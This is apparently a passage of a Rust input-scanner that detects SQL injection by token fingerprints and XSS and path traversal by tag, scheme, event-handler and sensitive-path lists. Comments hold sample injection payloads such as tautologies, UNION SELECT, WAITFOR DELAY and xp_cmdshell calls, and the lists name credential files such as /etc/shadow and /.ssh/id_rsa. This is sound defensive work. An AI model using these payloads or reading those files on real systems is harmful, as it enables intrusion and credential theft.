// SQL injection: folding and fingerprints

/// Longest fingerprint.
const FP_LEN: usize = 5;

struct Fingerprint {
    toks: [Tok; FP_LEN],
    kinds: [u8; FP_LEN],
    len: usize,
    /// The folded token after the fingerprint, if any.
    next: Option<Tok>,
}

impl Fingerprint {
    fn kinds(&self) -> &[u8] {
        &self.kinds[..self.len]
    }

    /// Token `i` of the fingerprint, or the one after it.
    fn tok(&self, i: usize) -> Option<&Tok> {
        if i < self.len {
            Some(&self.toks[i])
        } else if i == self.len {
            self.next.as_ref()
        } else {
            None
        }
    }
}

fn is_operand(t: &Tok) -> bool {
    matches!(t.kind, T_NUMBER | T_BAREWORD | T_VARIABLE)
}

/// Tokenizes `s` in `context` and folds the stream libinjection-style: leading `(`, comments and
/// unary operators are dropped; adjacent strings join; unary operators after an operator,
/// keyword or `(` are dropped; two-word phrases merge; `a op b` over numbers, barewords and
/// variables folds to one operand (marked as a comparison when `op` compares); comments vanish
/// except a trailing one. The first five remaining token types are the fingerprint.
fn fingerprint(s: &[u8], context: Quote) -> Fingerprint {
    let mut lex = Lexer::new(s, context);
    // Three tokens past the fingerprint are read so that folding settles its last one and the
    // one after it.
    let mut v = [Tok::default(); FP_LEN + 3];
    let mut n = 0usize;
    let mut last_comment: Option<Tok> = None;
    while let Some(t) = lex.next_token() {
        if t.kind == T_COMMENT {
            last_comment = Some(t);
            continue;
        }
        last_comment = None;
        if n == 0 && (t.kind == T_LPAREN || t.unary()) {
            continue;
        }
        if t.unary()
            && t.kw != Kw::Not
            && n > 0
            && matches!(
                v[n - 1].kind,
                T_OPERATOR
                    | T_LPAREN
                    | T_LOGIC
                    | T_KEYWORD
                    | T_EXPRESSION
                    | T_UNION
                    | T_GROUP
                    | T_COMMA
                    | T_SEMICOLON
                    | T_TSQL
            )
        {
            continue;
        }
        if t.kind == T_STRING && n > 0 && v[n - 1].kind == T_STRING {
            v[n - 1].end = t.end;
            v[n - 1].flags = (v[n - 1].flags & !F_CLOSED) | (t.flags & F_CLOSED);
            continue;
        }
        v[n] = t;
        n += 1;
        if n >= 2 {
            if let Some((kind, kw, flags)) = merge_words(&v[n - 2], &v[n - 1]) {
                let end = v[n - 1].end;
                let a = &mut v[n - 2];
                a.kind = kind;
                a.kw = kw;
                a.flags = flags;
                a.end = end;
                n -= 1;
            }
        }
        if n >= 3 && is_operand(&v[n - 3]) && v[n - 2].kind == T_OPERATOR && is_operand(&v[n - 1]) {
            let cmp = (v[n - 2].flags | v[n - 3].flags | v[n - 1].flags) & (F_CMP | F_NUM);
            let end = v[n - 1].end;
            v[n - 3].end = end;
            v[n - 3].flags |= cmp;
            n -= 2;
        }
        if n > FP_LEN + 2 {
            break;
        }
    }
    let next = (n > FP_LEN).then_some(v[FP_LEN]);
    let mut len = n.min(FP_LEN);
    if len < FP_LEN {
        if let Some(c) = last_comment {
            v[len] = c;
            len += 1;
        }
    }
    let mut kinds = [0u8; FP_LEN];
    let mut toks = [Tok::default(); FP_LEN];
    for ((k, d), t) in kinds.iter_mut().zip(toks.iter_mut()).zip(&v[..len]) {
        *k = t.kind;
        *d = *t;
    }
    Fingerprint {
        toks,
        kinds,
        len,
        next,
    }
}

/// Fingerprints known to be SQL injection, by attack family. Syntax: token-type letters, `[..]`
/// a class, a trailing `*` any continuation. Built by hand from the families below and checked
/// against sqlmap-generated payloads and CSIC 2010 (see the ignored `corpus_eval` test).
const SQLI_PATTERNS: &[&str] = &[
    // --- Breaking out of a quoted string (first token: the string the value closes) ---
    // Tautologies: ' OR '1'='1 | " OR ""=" | ') OR ('a'='a | ' OR ''=' AND ' | 'OR'a='a
    "s&so*",
    "s&s[&;cU]*",
    "s&sn",
    "s)&(s*",
    "s)&so*",
    // ' OR 1=1 | ' AND 1=1-- | ') OR (1=1 | ' OR NOT 1=2 (the operand must compare; checked)
    "s&[1nv]",
    "s&[1nv][c&;)oBkUE(]*",
    "s&o*",
    "s)&([1nv]*",
    "s)&[1nv]*",
    "s))&[1nv]*",
    "s)))&*",
    // ' AND SLEEP(5) | ' OR (SELECT ..) | ') AND EXISTS(
    "s&f(*",
    "s&(*",
    "s)&f(*",
    "s)&(*",
    "s))&f*",
    "s))&(*",
    // ' UNION SELECT | ') UNION ALL (SELECT
    "sUE*",
    "s)UE*",
    "s))UE*",
    "s)))U*",
    "sU(E*",
    "s)U(E*",
    // Stacked: '; DROP TABLE | '); WAITFOR DELAY | '; EXEC | ';IF(1=1) | '; CALL f( | '; BEGIN x.f(
    "s;[ETB]*",
    "s);[ETB]*",
    "s));[ETB]*",
    "s)));*",
    "s;(E*",
    "s;f(*",
    "s);f*",
    "s));f*",
    "s;nf(*",
    "s);nf*",
    "s));n*",
    "[1s];nn(*",
    // A statement right after the string: ' DELETE FROM | ' SELECT * FROM | ' WAITFOR DELAY '0:0:5'
    "sE[ko1(f]*",
    "sEnk*",
    "sEn,*",
    "sT[svT(]*",
    "sTn[(s]*",
    "s)T*",
    "s))T*",
    "s)))T*",
    // Out of a VALUES list: x','0');WAITFOR .. | ',(SELECT ..) | ',IIF(1=1,1,1/0) | ',(CASE
    "s,s,s*",
    "s,s)*",
    "s,1)*",
    "s,1,1*",
    "s,s,1*",
    "s,1,s*",
    "[1s],(E*",
    "[1s],(k*",
    "s,f(*",
    // ' ORDER BY 1-- | ') GROUP BY x | ' HAVING 1=1 | ' LIMIT 1 | ') PROCEDURE ANALYSE(
    "sB1*",
    "s)B1*",
    "s))B1*",
    "s)))B*",
    "sBn*",
    "s)Bn*",
    "s))Bn*",
    // Truncation: admin'-- | ') -- | ')) # (checked: a real comment, not `"--flag"`)
    "sc",
    "s)c",
    "s))c",
    "s)))c",
    // ' WHERE 1=1 | ') AS x WHERE | ' INTO OUTFILE | ' IN BOOLEAN MODE) (the keyword is checked)
    "sk[1n(f]*",
    "s)k[1n(f]*",
    "s))k[1n(f]*",
    "sks*",
    "sk)*",
    // Operators: '||(SELECT | '=SLEEP( | ') RLIKE (SELECT | ' (SELECT | '-1 OR | '='' OR
    "so(E*",
    "sof(*",
    "s)of(*",
    "s))of*",
    "s)o(E*",
    "s))o(*",
    "s)))o*",
    "s(E*",
    "s)(E*",
    "s))(E*",
    "s)))(*",
    "so[1n]&*",
    "sos&*",
    // --- Numeric context (first token: a number, or a column name) ---
    // 1 AND 1=1 | 1 OR x=1 | 1) AND (1=1 | 1 AND (1=1)*5 (the operand must compare; checked)
    "[1n]&[1nv]",
    "[1n]&[1nv][c&;)UBo(]*",
    "[1n]&(1*",
    "1)&([1nv]*",
    "1)&[1nv]*",
    "1))&[1nv]*",
    "1)))&*",
    // 1 AND SLEEP(5) | 1 OR (SELECT ..) | 1) AND EXISTS(
    "[1n]&f(*",
    "[1n]&(E*",
    "[1n]&((*",
    "1)&f(*",
    "1)&(*",
    "1))&f*",
    "1))&(*",
    // 1 UNION SELECT | -1) UNION ALL (SELECT
    "[1nv]UE*",
    "1)UE*",
    "1))UE*",
    "1)))U*",
    "[1n]U(E*",
    "1)U(E*",
    // Stacked: 1;DROP TABLE x | 1); WAITFOR DELAY | 1;IF( | 1;CALL f( | 1;BEGIN x.f( | x; SELECT *
    "1;[ETB]*",
    "1);[ETB]*",
    "1));[ETB]*",
    "1)));*",
    "1;(E*",
    "1;f(*",
    "1);f*",
    "1));f*",
    "1;nf(*",
    "1);nf*",
    "n;E[okf(1v]*",
    "n;T[nsv1(]*",
    "1T*",
    "1)T*",
    "1)))T*",
    // 1 ORDER BY 1-- | 1 HAVING 1=1 | 1) GROUP BY x
    "1B1*",
    "1)B1*",
    "1))B1*",
    "1)))B*",
    "1Bn*",
    "1)Bn*",
    "1))Bn*",
    // 1 WHERE 1=1 | 1) AS x WHERE 1=1 (the keyword is checked)
    "1k[1n(f]*",
    "1)k[1n(f]*",
    "1))k[1n(f]*",
    // 1 RLIKE SLEEP(5) | 1=SLEEP(5) | 1||(SELECT | 1 (SELECT | 1,IIF(1=1,..) | (1=1)*5
    "1of(*",
    "1)of(*",
    "1))of*",
    "1o(E*",
    "1)o(E*",
    "1))o(*",
    "1)))o*",
    "1(E*",
    "1,f(*",
    "1)o1",
    // 1/*!UNION*/ (a block comment glued to a number; checked)
    "1c",
    // --- The value is SQL by itself ---
    // SELECT * FROM x | (SELECT * FROM (SELECT | SELECT SLEEP( | (SELECT 1 FROM PG_SLEEP(
    // | (SELECT (CASE WHEN | SELECT 1 UNION (not `select 2 from the list`)
    "Eok[nvf(]*",
    "Ef(*",
    "E1k[f(]*",
    "E1U*",
    "E(kk*",
    // CASE WHEN 1=1 THEN | IIF(1=1,1,1/0) | MAKE_SET(5=5,1) (the comparison is checked)
    "kk1k*",
    "f(1,*",
    "f(1)*",
    // ;DROP .. | ;WAITFOR .. | UNION SELECT .. | AND 1=1 | OR SLEEP(5)
    ";E*",
    ";T*",
    "UE*",
    "U(E*",
    "&[1nv]",
    "&[1nv][c&;)B]*",
    "&f(*",
    "&(E*",
    // EXEC xp_cmdshell | WAITFOR DELAY '0:0:5' | DECLARE @x | EXEC master..xp_cmdshell 'dir'
    "TT*",
    "Ts",
    "Ts[c;]*",
    "Tv*",
    "Tns*",
    "Tn(*",
];

struct PatternSet {
    exact: Vec<u64>,
    prefix: Vec<u64>,
}

fn key(fp: &[u8]) -> u64 {
    debug_assert!(fp.len() <= FP_LEN);
    let mut k = fp.len() as u64;
    for (i, &c) in fp.iter().enumerate() {
        k |= u64::from(c) << (8 * (i + 1));
    }
    k
}

fn expand(pat: &[u8], acc: &mut Vec<u8>, out: &mut Vec<u64>) {
    let Some(&c) = pat.first() else {
        if acc.len() <= FP_LEN {
            out.push(key(acc));
        }
        return;
    };
    if c == b'[' {
        let close = pat.iter().position(|&b| b == b']').unwrap_or(pat.len() - 1);
        for &alt in &pat[1..close] {
            acc.push(alt);
            expand(&pat[close + 1..], acc, out);
            acc.pop();
        }
    } else {
        acc.push(c);
        expand(&pat[1..], acc, out);
        acc.pop();
    }
}

fn patterns() -> &'static PatternSet {
    static SET: OnceLock<PatternSet> = OnceLock::new();
    SET.get_or_init(|| {
        let (mut exact, mut prefix) = (Vec::new(), Vec::new());
        for p in SQLI_PATTERNS {
            let p = p.as_bytes();
            let mut acc = Vec::with_capacity(FP_LEN);
            match p.strip_suffix(b"*") {
                Some(stem) => expand(stem, &mut acc, &mut prefix),
                None => expand(p, &mut acc, &mut exact),
            }
        }
        exact.sort_unstable();
        exact.dedup();
        prefix.sort_unstable();
        prefix.dedup();
        PatternSet { exact, prefix }
    })
}

fn fingerprint_listed(fp: &[u8]) -> bool {
    let set = patterns();
    if set.exact.binary_search(&key(fp)).is_ok() {
        return true;
    }
    (1..=fp.len()).any(|k| set.prefix.binary_search(&key(&fp[..k])).is_ok())
}

/// Extra checks on a listed fingerprint that keep short, ambiguous shapes from firing on text.
fn confirmed(fp: &Fingerprint, s: &[u8], context: Quote) -> bool {
    let k = fp.kinds();
    let t = &fp.toks;
    if k.len() < 2 {
        return false;
    }
    // Without quotes, a leading string was quoted in full (`"a" or "b"`): no breakout.
    if context == Quote::None && k[0] == T_STRING {
        return false;
    }
    // A real comment: `#`, `/*`, or `--` not glued to a word (`--version` is a flag).
    let sql_comment = |c: &Tok| {
        let rest = &s[c.start.min(s.len())..];
        rest.starts_with(b"#")
            || rest.starts_with(b"/*")
            || (rest.starts_with(b"--") && !rest.get(2).is_some_and(u8::is_ascii_alphanumeric))
    };
    let statement = |i: usize| {
        fp.tok(i)
            .is_some_and(|x| matches!(x.kind, T_EXPRESSION | T_TSQL))
    };
    // Logic operator followed by a bare operand (maybe in parentheses): the operand must be a
    // comparison (`1=1`), unless more SQL follows it. Not needed once a statement keyword,
    // `UNION` or `;` came first.
    let established = |i: usize| {
        k[..i]
            .iter()
            .any(|c| matches!(*c, T_UNION | T_EXPRESSION | T_TSQL | T_SEMICOLON | T_GROUP))
    };
    for i in 0..k.len().saturating_sub(1) {
        if k[i] != T_LOGIC || established(i) {
            continue;
        }
        let mut j = i + 1;
        while j < k.len() && k[j] == T_LPAREN {
            j += 1;
        }
        // Without quotes, `a<b and c>d` is text: the comparison must involve a number.
        let needed = if context == Quote::None {
            F_CMP | F_NUM
        } else {
            F_CMP
        };
        let Some(operand) = fp.tok(j).filter(|o| is_operand(o)) else {
            continue;
        };
        if operand.flags & needed == needed {
            continue;
        }
        let strong_after = match fp.tok(j + 1) {
            None => false,
            Some(c) if c.kind == T_COMMENT => {
                sql_comment(c) && (context != Quote::None || operand.kind == T_NUMBER)
            }
            Some(c) if c.kind == T_LOGIC => {
                fp.tok(j + 2).is_some_and(|x| x.flags & needed == needed)
            }
            // `1 AND 5=(SELECT`, `1 AND 5=SLEEP(5)`: a comparison that did not fold.
            Some(c) if c.kind == T_OPERATOR => c.flags & F_CMP != 0,
            Some(c) if c.kind == T_SEMICOLON => statement(j + 2),
            Some(c) => matches!(c.kind, T_UNION | T_GROUP),
        };
        if !strong_after {
            return false;
        }
    }
    // A keyword right after the breakout (`' WHERE 1=1`, `') AS x WHERE`, `' INTO OUTFILE`).
    if let Some(i) = k
        .iter()
        .position(|&c| !matches!(c, T_STRING | T_NUMBER | T_RPAREN))
    {
        if i > 0 && k[i] == T_KEYWORD {
            let ok = match t[i].kw {
                Kw::Where => fp.tok(i + 1).is_some_and(|o| {
                    o.flags & F_CMP != 0 || matches!(o.kind, T_LPAREN | T_FUNCTION)
                }),
                Kw::As => fp.tok(i + 2).is_some_and(|w| w.kw == Kw::Where),
                Kw::Outfile => true,
                Kw::InBooleanMode => fp.tok(i + 1).is_some_and(|p| p.kind == T_RPAREN),
                _ => false,
            };
            if !ok {
                return false;
            }
        }
    }
    match k {
        // A closed string and then a comment: only from a quote context.
        // The comment must not hold the quote (`"#tag" here` is prose) nor be a shebang.
        [T_STRING, .., T_COMMENT]
            if k.iter()
                .all(|&c| matches!(c, T_STRING | T_RPAREN | T_COMMENT)) =>
        {
            let c = &t[k.len() - 1];
            let body = &s[c.start.min(s.len())..c.end.min(s.len())];
            let q = if context == Quote::Single {
                b'\''
            } else {
                b'"'
            };
            context != Quote::None
                && t[0].flags & F_CLOSED != 0
                && sql_comment(c)
                && !body.contains(&q)
                && !body.starts_with(b"#!")
        }
        // `x'OR'a='a`: only when every token is glued to the next, as no prose is.
        [T_STRING, T_LOGIC, T_STRING, T_BAREWORD] => {
            t.windows(2).take(3).all(|w| w[0].end == w[1].start)
        }
        // A function of a comparison: `IIF(1=1,..)`, not `LEFT(3,4)`.
        [T_FUNCTION, T_LPAREN, T_NUMBER, ..] => t[2].flags & F_CMP != 0,
        [T_NUMBER, T_COMMA, T_FUNCTION, T_LPAREN, ..] => {
            fp.tok(4).is_some_and(|o| o.flags & F_CMP != 0)
        }
        [T_NUMBER, T_RPAREN, T_OPERATOR, T_NUMBER] => t[0].flags & F_CMP != 0,
        // `CASE WHEN 1=1 THEN`.
        [T_KEYWORD, T_KEYWORD, T_NUMBER, ..] => t[2].flags & F_CMP != 0,
        // A number glued to a block comment: `1/*!union*/`, `1/**/`.
        [T_NUMBER, T_COMMENT] => {
            let c = &t[1];
            s[c.start..].starts_with(b"/*")
                && t[0].end == c.start
                && s[t[0].start..t[0].end].iter().all(u8::is_ascii_digit)
        }
        _ => true,
    }
}

fn detect_sqli(s: &[u8], p: &Presence) -> Option<(String, Range<usize>)> {
    let contexts = [
        (Quote::None, true),
        (Quote::Single, p.squote),
        (Quote::Double, p.dquote),
    ];
    for (context, run) in contexts {
        if !run {
            continue;
        }
        let fp = fingerprint(s, context);
        if fp.len >= 2 && fingerprint_listed(fp.kinds()) && confirmed(&fp, s, context) {
            let start = fp.toks[0].start.min(s.len());
            let end = fp.toks[fp.len - 1].end.clamp(start, s.len());
            let evidence = String::from_utf8_lossy(fp.kinds()).into_owned();
            return Some((evidence, start..end));
        }
    }
    None
}

// ------------------------------------------------------------------------------------------
// XSS

/// Tags that are an attack by their presence.
static DANGEROUS_TAGS: WordList = WordList::new(
    "script iframe frame frameset object embed applet meta base svg math style link xml import \
    isindex bgsound layer ilayer",
);

/// Attributes whose value is a URL.
static URL_ATTRS: WordList = WordList::new(
    "href src action formaction data lowsrc dynsrc background xlink:href poster codebase value \
    content to from values",
);

/// Event handler attributes recognised outside a tag (`" onmouseover="...`).
static EVENTS: WordList = WordList::new(
    "onabort onafterprint onanimationend onanimationiteration onanimationstart onauxclick \
    onbeforeprint onbeforeunload onbegin onblur oncanplay onchange onclick oncontextmenu \
    oncopy oncut ondblclick ondrag ondragend ondragenter ondragleave ondragover ondragstart \
    ondrop onend onended onerror onfinish onfocus onfocusin onfocusout onhashchange oninput \
    oninvalid onkeydown onkeypress onkeyup onload onloadstart onmessage onmousedown \
    onmouseenter onmouseleave onmousemove onmouseout onmouseover onmouseup onmousewheel \
    onpageshow onpaste onplay onpointerdown onpointerenter onpointerover onpopstate \
    onreadystatechange onrepeat onreset onresize onscroll onsearch onselect onselectstart \
    onshow onstart onsubmit ontoggle ontouchstart ontransitionend onunload onwheel",
);

/// JS calls that are XSS payload markers when a name is followed by `(` or a backtick.
static JS_CALLS: WordList = WordList::new(
    "alert prompt confirm eval settimeout setinterval fromcharcode string.fromcharcode \
    document.write document.writeln window.open atob",
);

/// JS properties that are XSS payload markers by themselves.
const JS_PROPS: &str =
    "document.cookie document.domain document.location window.location location.href \
    document.body.innerhtml";

fn detect_xss(s: &[u8]) -> Option<Hit> {
    xss_tags(s)
        .or_else(|| xss_schemes(s))
        .or_else(|| xss_events(s))
        .or_else(|| xss_css(s))
        .or_else(|| xss_js(s))
}

/// `<tag ...>`: a dangerous tag, or any tag with an event handler, a script URL in a URL
/// attribute, `srcdoc`, or script in `style`.
fn xss_tags(s: &[u8]) -> Option<Hit> {
    // A `<` inside an earlier tag's attributes is part of them, not a tag: work stays linear.
    let mut resume = 0;
    for lt in memchr_iter(b'<', s) {
        if lt < resume {
            continue;
        }
        let mut i = lt + 1;
        if s.get(i) == Some(&b'/') {
            i += 1;
        }
        if !s.get(i).is_some_and(u8::is_ascii_alphabetic) {
            continue;
        }
        let name_start = i;
        while i < s.len() && (s[i].is_ascii_alphanumeric() || matches!(s[i], b'-' | b':')) {
            i += 1;
        }
        let name = &s[name_start..i];
        if DANGEROUS_TAGS.contains(name) {
            return Hit::span(lt..i);
        }
        match xss_attributes(s, i) {
            Ok(end) => resume = end,
            Err(h) => return Some(h),
        }
    }
    None
}

/// Reads the attributes of a tag from `i`: `Ok(end of the tag)` or `Err(what was found)`.
fn xss_attributes(s: &[u8], mut i: usize) -> Result<usize, Hit> {
    let limit = s.len().min(i + MAX_TAG_SCAN);
    loop {
        while i < limit && (s[i].is_ascii_whitespace() || matches!(s[i], b'/' | 0)) {
            i += 1;
        }
        if i >= limit || s[i] == b'>' || s[i] == b'<' {
            return Ok(i);
        }
        let name_start = i;
        while i < limit && !s[i].is_ascii_whitespace() && !matches!(s[i], b'/' | b'>' | b'=') {
            i += 1;
        }
        let name = &s[name_start..i];
        let mut eq = i;
        while eq < limit && s[eq].is_ascii_whitespace() {
            eq += 1;
        }
        if eq >= limit || s[eq] != b'=' {
            if name.is_empty() {
                i += 1;
            }
            continue;
        }
        let mut j = eq + 1;
        while j < limit && s[j].is_ascii_whitespace() {
            j += 1;
        }
        let (vstart, vend, next) = match s.get(j) {
            Some(&q @ (b'"' | b'\'' | b'`')) => {
                let end = memchr(q, &s[j + 1..limit]).map_or(limit, |o| j + 1 + o);
                (j + 1, end, (end + 1).min(limit))
            }
            _ => {
                let mut e = j;
                while e < limit && !s[e].is_ascii_whitespace() && s[e] != b'>' {
                    e += 1;
                }
                (j, e, e)
            }
        };
        let value = &s[vstart..vend];
        if name.len() > 4
            && name[..2].eq_ignore_ascii_case(b"on")
            && name[2..].iter().all(u8::is_ascii_alphabetic)
        {
            return Err(Hit::at(name_start..eq + 1));
        }
        if name.eq_ignore_ascii_case(b"srcdoc") {
            return Err(Hit::named("srcdoc=", name_start..eq + 1));
        }
        if URL_ATTRS.contains(name) {
            if let Some((label, r)) = script_scheme(value, 0) {
                return Err(Hit::named(label, vstart + r.start..vstart + r.end));
            }
        }
        if name.eq_ignore_ascii_case(b"style") {
            for pat in [
                &b"expression"[..],
                b"javascript:",
                b"behavior",
                b"-moz-binding",
            ] {
                if let Some(at) = find_ci(value, 0, pat) {
                    return Err(Hit::at(vstart + at..vstart + at + pat.len()));
                }
            }
        }
        i = next.max(i + 1);
    }
}

/// A script URL scheme at `s[from..]` (after leading whitespace and control characters, which
/// browsers strip, as they strip tabs and newlines inside the scheme).
fn script_scheme(s: &[u8], from: usize) -> Option<(&'static str, Range<usize>)> {
    let mut i = from;
    while i < s.len() && (s[i] <= b' ') {
        i += 1;
    }
    for (scheme, label) in [
        (&b"javascript:"[..], "javascript:"),
        (b"vbscript:", "vbscript:"),
        (b"livescript:", "livescript:"),
        (b"data:", "data:"),
    ] {
        if let Some(end) = match_obfuscated(s, i, scheme) {
            if label == "data:" {
                let mut k = end;
                while k < s.len() && s[k] <= b' ' {
                    k += 1;
                }
                let risky = [
                    &b"text/html"[..],
                    b"image/svg+xml",
                    b"application/xhtml+xml",
                    b"text/xml",
                ]
                .iter()
                .any(|m| starts_with_ci(s, k, m));
                if !risky {
                    continue;
                }
            }
            return Some((label, i..end));
        }
    }
    None
}

/// Matches lower-case ASCII `pat` at `s[at..]`, case-insensitively, skipping tabs, CR and LF
/// inside it; returns the end.
fn match_obfuscated(s: &[u8], at: usize, pat: &[u8]) -> Option<usize> {
    let mut i = at;
    for (n, &p) in pat.iter().enumerate() {
        if n > 0 {
            while i < s.len() && matches!(s[i], b'\t' | b'\n' | b'\r') {
                i += 1;
            }
        }
        if i >= s.len() || s[i].to_ascii_lowercase() != p {
            return None;
        }
        i += 1;
    }
    Some(i)
}

/// `javascript:` and friends where a URL starts: at the value's start (then followed by code),
/// or after `=`, a quote or `(`.
fn xss_schemes(s: &[u8]) -> Option<Hit> {
    for colon in memchr_iter(b':', s) {
        // Walk back over the scheme letters (and the tabs/newlines browsers ignore).
        let mut b = colon;
        while b > 0 && (s[b - 1].is_ascii_alphabetic() || matches!(s[b - 1], b'\t' | b'\n' | b'\r'))
        {
            b -= 1;
        }
        let Some((label, r)) = script_scheme(s, b) else {
            continue;
        };
        let at = r.start;
        if r.end != colon + 1 {
            continue;
        }
        let mut p = at;
        while p > 0 && s[p - 1] <= b' ' {
            p -= 1;
        }
        let rest = &s[colon + 1..s.len().min(colon + 65)];
        let code_follows = rest.iter().any(|c| b"()=;'\"`.[".contains(c));
        let boundary = if p == 0 {
            code_follows || label == "data:"
        } else {
            matches!(s[p - 1], b'=' | b'"' | b'\'' | b'(' | b'`') && rest.iter().any(|&c| c > b' ')
        };
        if boundary {
            return Hit::label(label, at..colon + 1);
        }
    }
    None
}

/// A known event handler attribute outside a tag: `" onfocus="...`, `x onload=...`.
fn xss_events(s: &[u8]) -> Option<Hit> {
    let mut from = 0;
    while let Some(at) = find_ci(s, from, b"on") {
        from = at + 2;
        if at > 0 && (is_word_byte(s[at - 1]) || s[at - 1] == b'-') {
            continue;
        }
        let mut e = at + 2;
        while e < s.len() && s[e].is_ascii_alphabetic() {
            e += 1;
        }
        let mut k = e;
        while k < s.len() && s[k].is_ascii_whitespace() {
            k += 1;
        }
        if s.get(k) == Some(&b'=') && EVENTS.contains(&s[at..e]) {
            return Hit::span(at..k + 1);
        }
    }
    None
}

/// CSS `expression(` after a `:`, and `-moz-binding`/`behavior` with a `url(`.
fn xss_css(s: &[u8]) -> Option<Hit> {
    let mut from = 0;
    while let Some(at) = find_ci(s, from, b"expression") {
        from = at + 1;
        let mut k = at + b"expression".len();
        while k < s.len() && s[k].is_ascii_whitespace() {
            k += 1;
        }
        if s.get(k) != Some(&b'(') {
            continue;
        }
        let mut p = at;
        while p > 0 && s[p - 1].is_ascii_whitespace() {
            p -= 1;
        }
        if p > 0 && s[p - 1] == b':' {
            return Hit::label("expression(", at..k + 1);
        }
    }
    for pat in [&b"-moz-binding"[..], b"behavior"] {
        if let Some(at) = find_ci(s, 0, pat) {
            if find_ci(s, at, b"url(").is_some() {
                return Hit::span(at..at + pat.len());
            }
        }
    }
    None
}

/// JS sinks: `alert(`, ``alert` ` ``, `eval(`, `document.cookie`, ...
fn xss_js(s: &[u8]) -> Option<Hit> {
    let mut i = 0;
    while i < s.len() {
        if !s[i].is_ascii_alphabetic() || (i > 0 && (is_word_byte(s[i - 1]) || s[i - 1] == b'.')) {
            i += 1;
            continue;
        }
        let start = i;
        while i < s.len() && (is_word_byte(s[i]) || s[i] == b'.') {
            i += 1;
        }
        let w = &s[start..i];
        if w.len() < 4 {
            continue;
        }
        if JS_PROPS
            .split_ascii_whitespace()
            .any(|p| w.len() >= p.len() && w[..p.len()].eq_ignore_ascii_case(p.as_bytes()))
        {
            return Hit::span(start..start + w.len().min(MAX_EVIDENCE));
        }
        if matches!(s.get(i), Some(b'(' | b'`')) {
            let name = w.rsplit(|&c| c == b'.').next().unwrap_or(w);
            if (JS_CALLS.contains(w) || JS_CALLS.contains(name)) && js_call_args(s, start, i) {
                return Hit::span(start..i + 1);
            }
        }
    }
    None
}

/// The call at `s[open]` (`(` or a backtick) has a payload's argument: a number, a string, a
/// template, nothing, a regex, or an expression (`document.cookie`, `atob(..)`); a bare word
/// (`prompt(s)`) only when markup or quotes came before.
fn js_call_args(s: &[u8], name_start: usize, open: usize) -> bool {
    if s[open] == b'`' {
        return true;
    }
    let mut a = open + 1;
    while a < s.len() && s[a].is_ascii_whitespace() {
        a += 1;
    }
    let Some(&c) = s.get(a) else { return false };
    if c.is_ascii_digit() || matches!(c, b'\'' | b'"' | b'`' | b')' | b'/') {
        return true;
    }
    let mut e = a;
    while e < s.len() && (is_word_byte(s[e]) || matches!(s[e], b'.' | b'$')) {
        e += 1;
    }
    let ident = &s[a..e];
    if ident.is_empty() {
        return false;
    }
    ident.contains(&b'.')
        || s.get(e) == Some(&b'(')
        || (s.get(e) == Some(&b')')
            && ident.len() >= 3
            && s[..name_start].iter().any(|c| b"<>\"'".contains(c)))
}

// ------------------------------------------------------------------------------------------
// Path traversal

/// Folds `\` to `/` and overlong UTF-8 encodings of `.`, `/` and `\` (`%c0%ae`...) in place;
/// returns the new length.
fn normalize_path(b: &mut [u8]) -> usize {
    let (mut i, mut o) = (0, 0);
    while i < b.len() {
        let c = b[i];
        let (out, len) = match (c, b.get(i + 1).copied(), b.get(i + 2).copied()) {
            (0xc0, Some(0xae), _) => (b'.', 2),
            (0xc0, Some(0xaf), _) | (0xe0, Some(0x80), Some(0xaf)) => {
                (b'/', if c == 0xc0 { 2 } else { 3 })
            }
            (0xc1, Some(0x9c), _) => (b'/', 2),
            (0xe0, Some(0x80), Some(0xae)) => (b'.', 3),
            (0xc0, Some(0x2e), _) => (b'.', 2),
            (0xc0, Some(0x2f), _) => (b'/', 2),
            (b'\\', _, _) => (b'/', 1),
            _ => (c, 1),
        };
        b[o] = out;
        o += 1;
        i += len;
    }
    o
}

/// Sensitive absolute paths (after `\` → `/`), matched case-insensitively as whole names at a
/// `/` (`web-inf/web.xml` also at the start).
static SENSITIVE_PATHS: WordList = WordList::new(
    "/etc/passwd /etc/shadow /etc/group /etc/hosts /etc/issue /etc/master.passwd /etc/sudoers \
    /proc/self/environ /proc/self/cmdline /proc/self/fd/ /proc/self/maps /proc/self/mem \
    /proc/version /windows/win.ini /winnt/win.ini /windows/system.ini /boot.ini \
    /windows/system32/ /winnt/system32/ /system32/drivers/etc/hosts /web-inf/web.xml \
    /.ssh/id_rsa /.ssh/authorized_keys /.bash_history /.htpasswd /inetpub/wwwroot/",
);

fn detect_traversal(t: &[u8]) -> Option<Hit> {
    // Segments: `..` above the start is a climb. A run of two or more dots counts as `..` when
    // a `/` is next to it (`....//` survives naive `../` stripping); `..;` is Tomcat's `..`.
    // The start is the value's start, or the root after `scheme://host` or a drive (`C:`).
    let mut seg_start = 0;
    if let Some(p) = memmem::find(t, b"://") {
        if !t[..p].contains(&b'/') {
            seg_start = memchr(b'/', &t[p + 3..]).map_or(t.len(), |q| p + 4 + q);
        }
    } else if t.len() >= 3 && t[0].is_ascii_alphabetic() && t[1] == b':' && t[2] == b'/' {
        seg_start = 3;
    }
    let root = seg_start;
    let mut depth: i32 = 0;
    let mut climb: Option<Range<usize>> = None;
    for end in memchr_iter(b'/', t)
        .filter(|&e| e >= root)
        .chain(std::iter::once(t.len()))
    {
        let seg = &t[seg_start.min(end)..end];
        let core = seg.split(|&c| c == b';').next().unwrap_or(seg);
        let dots = core.len() >= 2 && core.iter().all(|&c| c == b'.');
        let slash_adjacent = end < t.len() || seg_start > 0;
        if dots && slash_adjacent && (core.len() == 2 || end < t.len()) {
            if depth == 0 {
                let r = climb.get_or_insert(seg_start..end);
                r.end = end;
            } else {
                depth -= 1;
            }
        } else if !(seg.is_empty() || seg == b".") {
            depth += 1;
        }
        seg_start = end + 1;
    }
    if let Some(r) = climb {
        return Hit::span(r);
    }
    let whole = |p: &[u8], end: usize| {
        // `/etc/hosts`, not `/etc/hosts.equiv`.
        p.ends_with(b"/")
            || !t
                .get(end)
                .is_some_and(|&c| c.is_ascii_alphanumeric() || b"._-".contains(&c))
    };
    if starts_with_ci(t, 0, b"web-inf/web.xml") && whole(b"x", 15) {
        return Hit::span(0..15);
    }
    for at in memchr_iter(b'/', t) {
        let Some(&next) = t.get(at + 1) else { break };
        let next = next.to_ascii_lowercase();
        for p in SENSITIVE_PATHS.words() {
            if p[1] == next && starts_with_ci(t, at, p) && whole(p, at + p.len()) {
                return Hit::span(at..at + p.len());
            }
        }
    }
    if let Some(at) = find_ci(t, 0, b"<!--#include") {
        return Hit::label("<!--#include", at..at + 12);
    }
    if let Some(at) = find_ci(t, 0, b"file:/") {
